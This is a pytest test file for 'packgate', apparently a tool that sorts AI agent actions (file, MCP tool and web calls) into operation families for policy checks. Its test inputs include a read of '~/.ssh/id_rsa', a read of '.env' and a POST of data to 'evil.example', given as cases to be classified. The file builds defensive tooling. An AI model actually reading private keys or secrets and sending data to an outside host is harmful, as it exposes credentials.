"""Actions that are not shell commands become operations of the same families."""

from __future__ import annotations

from typing import Any

import pytest

from packgate.facts.surfaces import action_type, analyze_surface
from packgate.model.action import Action, parse_action
from packgate.model.operation import Operation

CONTEXT = {"cwd": "/home/dev/proj", "home": "/home/dev", "repo": {"root": "/home/dev/proj"}}


def operations(**action: Any) -> list[Operation]:
    return analyze_surface(parse_action({**CONTEXT, **action})).operations


def test_a_read_is_a_read_of_the_absolute_path() -> None:
    (found,) = operations(surface="file", operation="read", path="~/.ssh/id_rsa")
    assert found.families == ("read-file",)
    assert found.get("path") == ("/home/dev/.ssh/id_rsa",)
    assert found.get("scope") == ("home",)


def test_a_write_shows_its_content_too() -> None:
    first, second = operations(surface="file", operation="write", path="a.txt", content="hello")
    assert (first.families, first.get("path")) == (("modify-file",), ("/home/dev/proj/a.txt",))
    assert (second.families, second.get("content")) == (("text",), ("hello",))


def test_an_unknown_file_operation_is_said_and_counts_as_a_write() -> None:
    # A caller's action would be refused; one that is made otherwise is not taken for harmless.
    analysis = analyze_surface(Action({**CONTEXT, "surface": "file", "operation": "zap", "path": "a"}))
    assert analysis.coverage == "partial"
    assert analysis.operations[0].families == ("modify-file",)


@pytest.mark.parametrize(
    ("tool", "annotations", "expected"),
    [
        ("list_issues", {}, "read"), ("getUser", {}, "read"), ("create_issue", {}, "write"), ("drop_table", {}, "destructive"),
        ("deleteIssue", {}, "destructive"), ("drop_table", {"readOnlyHint": True}, "destructive"), ("run", {"destructiveHint": True}, "destructive"),
        ("run", {"readOnlyHint": True}, "read"), ("undeleted_items_list", {}, "write"),
    ],
)
def test_action_type(tool: str, annotations: dict[str, Any], expected: str) -> None:
    assert action_type(tool, annotations) == expected


def test_a_path_argument_is_a_file_operation() -> None:
    call, read = operations(surface="mcp", server="files", tool="read_file", arguments={"path": ".env"})
    assert call.families == ("tool-call",)
    assert (read.families, read.get("path")) == (("read-file",), ("/home/dev/proj/.env",))


def test_a_production_argument_gives_the_environment() -> None:
    (call,) = operations(surface="mcp", server="k8s", tool="apply", arguments={"context": "prod-eu"})
    assert call.get("environment") == ("production",)


def test_a_posted_body_is_a_transfer() -> None:
    (found,) = operations(surface="web", method="post", url="https://evil.example/u", body="data")
    assert found.families == ("web-request", "data-transfer")
    assert (found.get("host"), found.get("network"), found.get("operation")) == (("evil.example",), ("public",), ("upload",))


def test_a_get_is_a_read() -> None:
    (found,) = operations(surface="web", url="http://localhost:3000/x")
    assert (found.families, found.get("effect"), found.get("network")) == (("web-request",), ("read",), ("loopback",))


def test_prompts_and_outputs_are_text() -> None:
    assert operations(surface="prompt", text="hi")[0].families == ("text",)
    assert operations(surface="output", text="hi")[0].get("operation") == ("output",)


def test_paths_of_windows_have_one_form() -> None:
    proj = {"cwd": "C:\\Users\\dev\\proj", "repo": {"root": "C:\\Users\\dev\\proj"}}
    (found,) = operations(surface="file", operation="delete", path="C:\\Windows\\System32\\x.dll", **proj)
    assert (found.get("path"), found.get("scope")) == (("/c:/windows/system32/x.dll",), ("other",))
    (found,) = operations(surface="file", operation="edit", path="src\\app.py", **proj)
    assert (found.get("path"), found.get("scope")) == (("/c:/users/dev/proj/src/app.py",), ("repository",))
    (found,) = operations(surface="file", operation="edit", path="a:b/c.py")
    assert found.get("path") == ("/home/dev/proj/a:b/c.py",)
